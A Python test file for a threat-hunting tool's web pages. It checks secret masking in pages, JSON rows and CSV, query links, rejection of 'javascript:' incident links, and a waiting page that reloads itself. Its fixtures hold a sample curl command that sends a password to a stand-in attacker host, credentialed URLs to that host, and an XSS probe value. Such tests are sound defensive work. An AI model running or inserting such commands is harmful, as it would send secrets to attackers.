"""What a run's page, rows and CSV say: secrets masked as MASK_SECRETS says, and links to the query."""

from __future__ import annotations

import csv
import html
import io
from datetime import timedelta
from typing import Any

import msgspec
import pytest
from msgspec.structs import replace

from shared.catalog.query import hunt_query
from shared.kql.portal import portal_link
from shared.model.entity import Chosen, Device, Dropped, Indicator
from shared.model.finding import Found, Group
from shared.model.record import Done, Plan, PlannedHunt, Run, Wait, Work
from shared.pages.rows import csv_rows, json_rows
from shared.pages.run import run_page
from shared.settings import Settings
from tests.support.said import DEVICE, HUNTS, NOW, RUN_ID, WINDOW, outcome

HUNT = "archive-then-upload"
SECRET = "hunter2secret"
COMMAND = f"curl --password={SECRET} https://drop.evil.example"
# Defender's columns of the type dynamic hold objects, lists or text.
ROW: dict[str, Any] = {
    "NetCmd": COMMAND,
    "Fields": {"token": SECRET, "n": 1},
    "Tags": ["a"],
    "RemotePort": 443,
}
COLUMNS = tuple(ROW)
RAW = msgspec.json.encode({"schema": [{"name": name, "type": "x"} for name in ROW], "results": [ROW]})
EVERY_SETTING = pytest.mark.parametrize("mask", ["on", "off"])


def run() -> Run:
    """Return a run that has a secret in every value that came from outside."""
    group = Group((COMMAND,), 1, "2026-03-09T02:14:05Z", "2026-03-09T02:14:05Z")
    found = Found(HUNT, rows=1, columns=COLUMNS, shown=("NetCmd",), groups=(group,), group_count=1)
    chosen = Chosen(
        (DEVICE,),
        (Indicator("url", f"drop.evil.example/?sig={SECRET}"),),
        (Dropped("url", f"https://u:{SECRET}@drop.evil.example/", "a private address"),),
    )
    done = Done("completed", f"1 hunt for ?sig={SECRET}", NOW, (replace(outcome("found"), found=found),))
    plan = Plan("1", COMMAND, "https://security.microsoft.com/incident2/1", chosen)
    return Run(Work(RUN_ID, NOW, "digest"), plan, done=done)


@EVERY_SETTING
def test_the_page_masks_secrets_unless_masking_is_off(mask: str) -> None:
    """A password is shown only with MASK_SECRETS=off, in each of the six places where it stands."""
    page = run_page(run(), HUNTS, Settings(mask_secrets=mask), refresh=False)

    # The verdict, in the title and in the heading; the incident, the row, the indicator, the dropped entity.
    assert {"on": 0, "off": 6}[mask] == page.count(SECRET)


@EVERY_SETTING
def test_rows_and_csv_mask_the_same_secrets(mask: str) -> None:
    """Secrets in objects are masked too; an object becomes text only where it holds a secret."""
    secrets = mask == "on"
    body = json_rows(RAW, 10, mask=secrets)
    text = csv_rows(RAW, 10, mask=secrets).decode("utf-8-sig")
    head, row = csv.reader(io.StringIO(text, newline=""))

    assert list(COLUMNS) == body["columns"] == head
    assert {"on": 0, "off": 2}[mask] == str(body).count(SECRET) == text.count(SECRET)
    assert ("443", '["a"]') == (row[3], row[2])
    if secrets:
        assert {"NetCmd": "curl --password=*** https://drop.evil.example", "Fields": '{"token": ***, "n": 1}',
                "Tags": ["a"], "RemotePort": 443} == body["rows"][0]  # fmt: skip
    else:
        assert [ROW] == body["rows"]


def test_the_portal_link_holds_the_query_that_was_run() -> None:
    """The query in Advanced Hunting is about the hunt's own entities, not about all of the run's."""
    own = Chosen((Device(name="srv-8.contoso.com"),))
    planned = run()
    assert planned.plan
    plan = replace(planned.plan, hunts=(PlannedHunt(HUNT, WINDOW, own),))
    page = run_page(replace(planned, plan=plan), HUNTS, Settings(), refresh=False)
    query = hunt_query(HUNTS.by_name[HUNT], own, Settings().max_rows + 1, WINDOW.end)
    link = portal_link(query, Settings().cloud.portal)

    assert link
    assert f'href="{html.escape(link)}"' in page


@pytest.mark.parametrize(
    ("url", "links"), [("https://security.microsoft.com/incident2/1", 1), ("javascript:alert(1)", 0), ("", 0)]
)
def test_the_incident_is_linked_only_to_a_web_address(url: str, links: int) -> None:
    """An `https:` address makes it a link; with a `javascript:` address or none it is text."""
    ended = run()
    assert ended.plan
    page = run_page(
        replace(ended, plan=replace(ended.plan, incident_url=url)), HUNTS, Settings(), refresh=False
    )

    assert links == page.count(">1</a>")
    assert "javascript" not in page


def test_a_waiting_run_says_why_and_reloads() -> None:
    """Its page gives the reason and how many hunts have answered, and reloads itself every five seconds."""
    plan = Plan(hunts=(PlannedHunt(HUNT, WINDOW), PlannedHunt("file-origin", WINDOW)))
    wait = Wait("Graph allows no more calls", NOW + timedelta(minutes=5))
    found = {"file-origin": Found("file-origin"), "device-card": Found("device-card")}
    page = run_page(Run(Work(RUN_ID, NOW, "x"), plan, found, wait), HUNTS, Settings(), refresh=True)

    assert "<h1>Waiting</h1>" in page
    assert "Graph allows no more calls" in page
    assert "1 of 2 hunts have answered." in page
    assert '<meta http-equiv="refresh" content="5">' in page
